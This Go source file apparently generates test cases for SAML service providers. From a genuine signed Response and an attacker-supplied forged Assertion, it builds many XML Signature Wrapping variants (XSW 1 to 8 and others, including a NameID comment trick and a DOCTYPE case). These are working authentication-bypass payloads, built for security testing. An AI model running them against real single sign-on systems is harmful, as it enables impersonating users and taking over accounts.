package forge

import (
	"errors"
	"regexp"
	"strings"
)

// Wrapped is a document whose genuine signature covers something else than what
// stands where the person is named.
type Wrapped struct {
	// Name begins with the number of the attack ("xsw3 forged before genuine") where it
	// has one.
	Name string
	XML  []byte
}

// wrapper has the pieces of a genuine Response whose Assertion is signed.
type wrapper struct {
	document  string // the whole
	head      string // up to the Assertion
	tail      string // after it
	genuine   string // the Assertion with its signature
	stripped  string // the Assertion without
	signature string // that signature
	forged    string // what the attacker wants to be read
}

// Wrap makes the wrapping attacks (XSW 1 to 8 and their relatives) from a genuine
// Response with a signed Assertion. The namespaces stay as they were, unlike in the cases
// of spid-sp-test: only so do the attacks say anything. forged turns the genuine Assertion
// without signature into what the attacker wants to be read.
func Wrap(document []byte, forged func(assertion string) string) ([]Wrapped, error) {
	a, err := Find(document, "Response/Assertion")
	if err != nil {
		return nil, err
	}
	s, err := Find(document, "Response/Assertion/Signature")
	if err != nil {
		return nil, err
	}
	w := wrapper{
		document:  string(document),
		head:      string(document[:a.Start]),
		tail:      string(document[a.End:]),
		genuine:   string(document[a.Start:a.End]),
		stripped:  string(document[a.Start:s.Start]) + string(document[s.End:a.End]),
		signature: string(document[s.Start:s.End]),
	}
	if w.forged = forged(w.stripped); w.forged == w.stripped {
		return nil, errors.New("forge: the forgery changes nothing")
	}
	all := append(append(w.siblings(), w.nested()...), w.elsewhere()...)
	if e, err := Find(document, "Response/Signature"); err == nil {
		root, _ := Find(document, "Response") // it holds e
		all = append(all, w.envelopes(string(document[root.Start:e.Start])+string(document[e.End:root.End]), string(document[e.Start:e.End]))...)
	}
	return all, nil
}

// envelopes are XSW 1 and 2 proper: the signature of the Response moves into a forged
// Response, and the genuine one, without it, to where the signature can still find it.
func (w wrapper) envelopes(genuine, signature string) []Wrapped {
	id := regexp.MustCompile(` ID="`)
	first := id.FindStringIndex(genuine)
	evil := genuine[:first[0]] + ` ID="_evil` + genuine[first[1]:]
	evil = strings.Replace(evil, w.genuine, other(w.forged), 1)
	object := strings.Replace(signature, "</ds:Signature>", "<ds:Object>"+genuine+"</ds:Object></ds:Signature>", 1)
	inside := strings.Replace(signature, "</ds:Signature>", genuine+"</ds:Signature>", 1)
	at := func(piece string) []byte {
		return []byte(strings.Replace(evil, "<samlp:Status>", piece+"<samlp:Status>", 1))
	}
	return []Wrapped{
		{"xsw1 envelope in an Object of its signature", at(object)},
		{"xsw1 envelope inside its signature", at(inside)},
		{"xsw2 envelope beside its signature", at(signature + genuine)},
		{"xsw2 envelope before its signature", at(genuine + signature)},
		{"xsw7 envelope in Extensions", at(signature + "<samlp:Extensions>" + genuine + "</samlp:Extensions>")},
		{"envelope in StatusDetail", []byte(strings.Replace(string(at(signature)), "</samlp:Status>", "<samlp:StatusDetail>"+genuine+"</samlp:StatusDetail></samlp:Status>", 1))},
		{"envelope at the end", []byte(strings.Replace(string(at(signature)), "</samlp:Response>", genuine+"</samlp:Response>", 1))},
		{"forged around the envelope's own signature", at(signature)},
	}
}

func (w wrapper) response(name string, assertions ...string) Wrapped {
	return Wrapped{name, []byte(w.head + strings.Join(assertions, "") + w.tail)}
}

// other gives the forged assertion another identifier, so that no rule about unique
// identifiers saves the reader.
func other(assertion string) string {
	return regexp.MustCompile(` ID="[^"]*"`).ReplaceAllString(assertion, ` ID="_forged"`)
}

// into puts a piece behind the Issuer of an assertion, or in front of its end.
func into(assertion, piece string) string {
	return strings.Replace(assertion, "</saml:Issuer>", "</saml:Issuer>"+piece, 1)
}

func atEnd(assertion, piece string) string {
	return strings.TrimSuffix(assertion, "</saml:Assertion>") + piece + "</saml:Assertion>"
}

func (w wrapper) siblings() []Wrapped {
	forged := other(w.forged)
	return []Wrapped{
		w.response("xsw3 forged before genuine", forged, w.genuine),
		w.response("xsw3 forged after genuine", w.genuine, forged),
		w.response("xsw3 same ID before", w.forged, w.genuine),
		w.response("xsw5 signature moved into forged, genuine last", into(forged, w.signature), w.stripped),
		w.response("xsw5 genuine first", w.stripped, into(forged, w.signature)),
		w.response("signature copied into forged of the same ID", into(w.forged, w.signature)),
		w.response("signature copied into forged", into(forged, w.signature)),
		w.response("forged alone", w.forged),
		w.response("forged of a foreign namespace beside", strings.NewReplacer("<saml:Assertion ", `<x:Assertion xmlns:x="urn:x" `, "</saml:Assertion>", "</x:Assertion>").Replace(forged), w.genuine),
		w.response("signature outside as sibling", forged, w.stripped, w.signature),
	}
}

func (w wrapper) nested() []Wrapped {
	forged := other(w.forged)
	inObject := strings.Replace(w.signature, "</ds:Signature>", "<ds:Object>"+w.stripped+"</ds:Object></ds:Signature>", 1)
	inSignature := strings.Replace(w.signature, "</ds:Signature>", w.stripped+"</ds:Signature>", 1)
	inKeyInfo := strings.Replace(w.signature, "</ds:KeyInfo>", w.stripped+"</ds:KeyInfo>", 1)
	advice := func(piece string) string { return "<saml:Advice>" + piece + "</saml:Advice>" }
	return []Wrapped{
		w.response("xsw4 genuine inside forged", atEnd(forged, w.genuine)),
		w.response("xsw4 genuine inside forged, first", into(forged, w.genuine)),
		w.response("xsw6 genuine inside the signature", into(forged, inSignature)),
		w.response("xsw8 genuine inside an Object of the signature", into(forged, inObject)),
		w.response("genuine inside KeyInfo", into(forged, inKeyInfo)),
		w.response("genuine in Advice", strings.Replace(forged, "<saml:AuthnStatement", advice(w.genuine)+"<saml:AuthnStatement", 1)),
		w.response("forged in Advice of genuine", strings.Replace(w.genuine, "<saml:AuthnStatement", advice(forged)+"<saml:AuthnStatement", 1)),
		w.response("genuine in an AttributeValue", strings.Replace(forged, "</saml:AttributeValue>", w.genuine+"</saml:AttributeValue>", 1)),
		w.response("two signatures in genuine", into(w.genuine, w.signature)),
		w.response("comment in a name", strings.Replace(w.genuine, "</saml:NameID>", "<!-- -->x</saml:NameID>", 1)),
	}
}

func (w wrapper) elsewhere() []Wrapped {
	forged := other(w.forged)
	extensions := func(piece string) string {
		return strings.Replace(w.head, "<samlp:Status>", "<samlp:Extensions>"+piece+"</samlp:Extensions><samlp:Status>", 1)
	}
	detail := func(piece string) string {
		return strings.Replace(w.head, "</samlp:Status>", "<samlp:StatusDetail>"+piece+"</samlp:StatusDetail></samlp:Status>", 1)
	}
	whole := strings.TrimSpace(w.document)
	evil := strings.Replace(w.head+forged+w.tail, ` ID="`, ` ID="_evil`, 1)
	wrapping := strings.Replace(w.signature, "</ds:Signature>", "<ds:Object>"+whole+"</ds:Object></ds:Signature>", 1)
	return []Wrapped{
		{"xsw1 genuine Response inside the signature of a forged one", []byte(strings.Replace(evil, "<samlp:Status>", wrapping+"<samlp:Status>", 1))},
		{"xsw2 genuine Response beside the signature of a forged one", []byte(strings.Replace(evil, "<samlp:Status>", w.signature+whole+"<samlp:Status>", 1))},
		{"genuine Response as child of a forged one", []byte(strings.Replace(evil, "</samlp:Response>", whole+"</samlp:Response>", 1))},
		{"forged Response as second root", []byte(whole + evil)},
		{"xsw7 forged in Extensions", []byte(extensions(forged) + w.genuine + w.tail)},
		{"xsw7 genuine in Extensions, forged in place", []byte(extensions(w.genuine) + forged + w.tail)},
		{"genuine in StatusDetail, forged in place", []byte(detail(w.genuine) + forged + w.tail)},
		{"forged in StatusDetail", []byte(detail(forged) + w.genuine + w.tail)},
		{"doctype", []byte("<!DOCTYPE r>" + whole)},
	}
}
